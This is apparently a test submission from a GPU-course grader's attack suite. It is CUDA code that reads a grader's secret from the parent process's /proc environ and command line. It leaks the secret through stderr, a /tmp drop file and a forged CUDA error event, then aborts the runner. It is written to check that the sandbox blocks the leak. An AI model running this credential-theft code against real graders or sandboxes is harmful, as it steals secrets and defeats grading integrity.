// Attack (the runner is not contained; secrets): find the course secret in cugrade's own process
// (CUGRADE_COURSE_SECRET in its environment, or the file named by --secret-file on its command
// line) and carry it out of the grader: into stderr, into /tmp/cugrade-leaked-secret for a later
// submission to pick up, and into the student's report: as the message of a forged CUDA error
// event, after which it ends the runner so that the harness reads that event as the case's
// failure. With the secret, every
// hidden case's inputs can be generated at home. Must fail: the runner sees neither cugrade's
// environment nor its files (harness/tests/ci/attack_suite_test.sh checks that no report and no
// file holds the secret); here, without a secret, the submission is graded on its own zeros.
// How to read the outcome: the submission's own numbers are wrong (every C[i] = 0) unless the
// attack worked, in which case it computes the true sum. So "passed" means the attack worked,
// and the expected outcome, wrong_answer, means it was stopped.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include "interface.cuh"

__global__ void vecAddKernel(const float* A, const float* B, float* C, int n) {
  int i = threadIdx.x + blockDim.x * blockIdx.x;
  if (i < n) C[i] = A[i] + B[i];
}

// The lecture's vecAdd, called only when the attack worked (see the top of this file).
static void honestVecAdd(const float* h_A, const float* h_B, float* h_C, int n) {
  const size_t size = static_cast<size_t>(n) * sizeof(float);
  float *d_A, *d_B, *d_C;
  cudaMalloc((void**)&d_A, size);
  cudaMalloc((void**)&d_B, size);
  cudaMalloc((void**)&d_C, size);
  cudaMemcpy(d_A, h_A, size, cudaMemcpyHostToDevice);
  cudaMemcpy(d_B, h_B, size, cudaMemcpyHostToDevice);
  vecAddKernel<<<(n + 255) / 256, 256>>>(d_A, d_B, d_C, n);
  cudaMemcpy(h_C, d_C, size, cudaMemcpyDeviceToHost);
  cudaFree(d_A);
  cudaFree(d_B);
  cudaFree(d_C);
}

// Pass only if the attack worked: every element wrong otherwise.
static void graded(bool attack_worked, const float* h_A, const float* h_B, float* h_C, int n) {
  if (attack_worked) {
    honestVecAdd(h_A, h_B, h_C, n);
  } else {
    for (int i = 0; i < n; ++i) h_C[i] = 0.0f;
  }
}

// The whole content of a file ("" when it cannot be read).
[[maybe_unused]] static std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

// The parent of `pid`, from /proc/<pid>/stat (the field after the state).
[[maybe_unused]] static int parentOf(int pid) {
  const std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat");
  const size_t close = stat.rfind(')');
  int ppid = 0;
  char state = 0;
  if (close == std::string::npos || std::sscanf(stat.c_str() + close + 1, " %c %d", &state, &ppid) != 2)
    return 0;
  return ppid;
}

// The nearest ancestor whose argv[0] is the cugrade program, or 0 when none can be seen.
[[maybe_unused]] static int cugradeAncestor() {
  for (int pid = getppid(), hops = 0; pid > 1 && hops < 16; pid = parentOf(pid), ++hops) {
    const std::string raw = slurp("/proc/" + std::to_string(pid) + "/cmdline");
    const std::string argv0 = raw.substr(0, raw.find('\0'));
    const size_t slash = argv0.rfind('/');
    if (argv0.substr(slash == std::string::npos ? 0 : slash + 1) == "cugrade") return pid;
  }
  return 0;
}

// The job file this runner was started with (its argv[1]), read back from /proc/self/cmdline.
[[maybe_unused]] static std::string jobPath() {
  const std::string raw = slurp("/proc/self/cmdline");
  const size_t first = raw.find('\0');
  if (first == std::string::npos) return "";
  return raw.substr(first + 1, raw.find('\0', first + 1) - first - 1);
}

// The folder the runner works in: the job file's folder.
[[maybe_unused]] static std::string workDir() {
  const std::string job = jobPath();
  const size_t slash = job.rfind('/');
  return slash == std::string::npos ? "." : job.substr(0, slash);
}

// Every string value of `key` in a JSON text (good enough for the job file's paths and ids).
[[maybe_unused]] static std::vector<std::string> jsonStrings(const std::string& text,
                                                             const std::string& key) {
  std::vector<std::string> values;
  const std::string needle = "\"" + key + "\"";
  for (size_t at = text.find(needle); at != std::string::npos; at = text.find(needle, at + 1)) {
    const size_t open = text.find('"', text.find(':', at + needle.size()));
    const size_t close = text.find('"', open + 1);
    if (open == std::string::npos || close == std::string::npos) break;
    values.push_back(text.substr(open + 1, close - open - 1));
  }
  return values;
}

// The secret, read from cugrade's environment or --secret-file; "" when none is found.
static std::string findSecret(int pid, bool* readable) {
  const std::string env = slurp("/proc/" + std::to_string(pid) + "/environ");
  *readable = !env.empty();
  const std::string key = std::string("CUGRADE_COURSE_SECRET") + "=";
  for (size_t at = 0; at < env.size(); at = env.find('\0', at) + 1) {
    if (env.compare(at, key.size(), key) == 0)
      return env.substr(at + key.size(), env.find('\0', at) - at - key.size());
    if (env.find('\0', at) == std::string::npos) break;
  }
  std::vector<std::string> argv;
  const std::string raw = slurp("/proc/" + std::to_string(pid) + "/cmdline");
  for (size_t at = 0; at < raw.size(); at = raw.find('\0', at) + 1)
    argv.push_back(raw.substr(at, raw.find('\0', at) - at));
  const std::string option = "--secret-file";
  for (size_t k = 0; k < argv.size(); ++k) {
    std::string file;
    if (argv[k] == option && k + 1 < argv.size()) file = argv[k + 1];
    if (argv[k].rfind(option + "=", 0) == 0) file = argv[k].substr(option.size() + 1);
    if (!file.empty()) {
      char cwd[4096];
      const std::string cwd_link = "/proc/" + std::to_string(pid) + "/cwd";
      const ssize_t size = readlink(cwd_link.c_str(), cwd, sizeof cwd - 1);
      if (file[0] != '/' && size > 0) file = std::string(cwd, size) + "/" + file;
      return slurp(file);
    }
  }
  return "";
}

// Every way out of the grader this submission knows.
static void leak(const std::string& secret) {
  std::fprintf(stderr, "attack: the course secret is %s\n", secret.c_str());
  if (FILE* drop = std::fopen("/tmp/cugrade-leaked-secret", "w")) {
    std::fputs(secret.c_str(), drop);
    std::fclose(drop);
  }
  const std::vector<std::string> events = jsonStrings(slurp(jobPath()), "events_file");
  if (!events.empty()) {
    const std::vector<std::string> tasks = jsonStrings(slurp(events.front()), "task");
    if (FILE* out = std::fopen(events.front().c_str(), "a")) {
      std::string text;
      for (char c : secret)
        if (c != '"' && c != '\\' && c >= ' ') text += c;
      std::fprintf(out,
                   "{\"kind\":\"cuda_error\",\"task\":\"%s\",\"call\":\"vecAdd\",\"error\":\"secret=%s\"}\n",
                   tasks.empty() ? "" : tasks.back().c_str(), text.c_str());
      std::fclose(out);
    }
  }
  std::abort();
}

void vecAdd(const float* h_A, const float* h_B, float* h_C, int n) {
  const int pid = cugradeAncestor();
  bool readable = false;
  const std::string secret = pid ? findSecret(pid, &readable) : "";
  graded(readable, h_A, h_B, h_C, n);
  if (!secret.empty()) leak(secret);
}
